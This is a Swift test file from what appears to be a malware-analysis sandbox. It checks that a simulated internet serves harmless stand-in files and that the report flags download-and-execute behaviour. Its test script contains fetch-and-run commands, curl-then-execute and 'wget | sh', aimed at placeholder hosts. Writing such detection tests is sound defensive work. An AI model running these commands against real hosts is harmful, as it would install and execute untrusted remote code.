import Crypto
import Foundation
import Petri
import PetriModel
import PetriNet
import Testing

/// Served by requester (issue 16, "both sides of a download"): real clients in the sandbox ask the
/// simulated internet for a tar.gz, an untyped name through `wget | sh`, a ZIP they never open and a
/// JSON API; each gets a harmless file of the type asked for, the record says what was served and
/// why, and whether the sample ran it.
@Suite("network: served by requester", .serialized)
struct NetworkServedTests {
    static func sha(_ b: [UInt8]) -> String { SHA256.hash(data: b).map { String(format: "%02x", $0) }.joined() }

    @Test("tar.gz unpacked and run, wget | sh, a zip left alone, JSON over HTTPS: what was served, why, and what ran")
    func servedByWhatWasAskedFor() throws {
        guard NetworkTLSTests.tool("/usr/bin/curl", "curl"), NetworkTLSTests.tool("/usr/bin/wget", "wget") else { return }
        let run = try NetworkTLSTests.analyze("served", """
            #!/bin/sh
            cd /tmp
            curl -sS -m 8 -o t.tgz http://dl.example/tools/kit.tar.gz && tar xzf t.tgz && ./payload
            wget -q -T 8 -O - https://get.example/install | sh
            curl -sS -m 8 -o k.zip http://dl.example/tools/kit.zip
            python3 -c 'import json, urllib.request as u; r = u.Request("https://api.example/v1/tasks", headers={"Accept": "application/json"}); print("api status", json.load(u.urlopen(r, timeout=8))["status"])'

            """)
        let r = run.report
        let http = r.network.http
        let tgz = try #require(http.first { $0.path == "/tools/kit.tar.gz" }, "\(http.map(\.url))")
        #expect(tgz.response == "payload:builtin-tar.gz" && tgz.servedReason?.contains("name ends in .tar.gz") == true, "\(tgz)")
        #expect(tgz.responseSha256 == Self.sha(HTTPResponder.bytes(.tarGz)))
        #expect(tgz.servedExecuted == true, "the unpacked program ran")
        #expect(r.files.contains { $0.path == "/tmp/payload" && $0.sha256 == Self.sha(HarmlessELF.bytes) })
        #expect(r.output.stdoutPreview.contains("petri simulated payload (elf): nothing to see"), "\(r.output.stdoutPreview)")

        let sh = try #require(http.first { $0.host == "get.example" && $0.path == "/install" })
        #expect(sh.tls == true && sh.response == "payload:builtin-sh-page" && sh.servedReason?.contains("Wget") == true, "\(sh)")
        #expect(r.output.stdoutPreview.contains("petri simulated payload: nothing to see"), "the piped script ran")

        let zip = try #require(http.first { $0.path == "/tools/kit.zip" })
        #expect(zip.response == "payload:builtin-zip" && zip.servedExecuted == false, "downloaded, never opened: \(zip)")

        let api = try #require(http.first { $0.host == "api.example" })
        #expect(api.response == "json" && api.servedReason?.contains("Accept: application/json") == true && api.tls == true)
        #expect(r.output.stdoutPreview.contains("api status ok"))
        // The report shows the download-and-run chain.
        #expect(r.behaviours.contains { $0.id == "downloads-and-executes" }, "\(r.behaviours.map(\.id))")
    }
}
